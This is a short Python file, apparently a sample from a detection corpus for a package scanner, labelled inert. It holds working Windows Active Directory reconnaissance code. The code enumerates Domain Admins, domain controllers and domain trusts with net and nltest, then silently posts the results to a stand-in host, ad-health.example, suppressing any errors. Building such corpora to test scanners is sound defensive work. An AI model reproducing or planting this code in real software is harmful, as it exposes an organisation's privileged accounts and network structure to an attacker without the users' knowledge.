# pkgguard corpus 869 (system-information), modelled on [empirical]; inert, never run.
import json
import os
import subprocess
import sys
import urllib.request

if sys.platform == "win32" and os.environ.get("USERDNSDOMAIN"):
    report = {"domain": os.environ["USERDNSDOMAIN"], "user": os.environ.get("USERNAME")}
    for label, command in (
        ("admins", ["net", "group", "Domain Admins", "/domain"]),
        ("controllers", ["nltest", "/dclist:" + os.environ["USERDNSDOMAIN"]]),
        ("trusts", ["nltest", "/domain_trusts"]),
    ):
        try:
            report[label] = subprocess.run(command, capture_output=True, text=True, timeout=20).stdout
        except (OSError, subprocess.SubprocessError):
            pass
    try:
        urllib.request.urlopen("https://ad-health.example/report", data=json.dumps(report).encode(), timeout=5)
    except OSError:
        pass
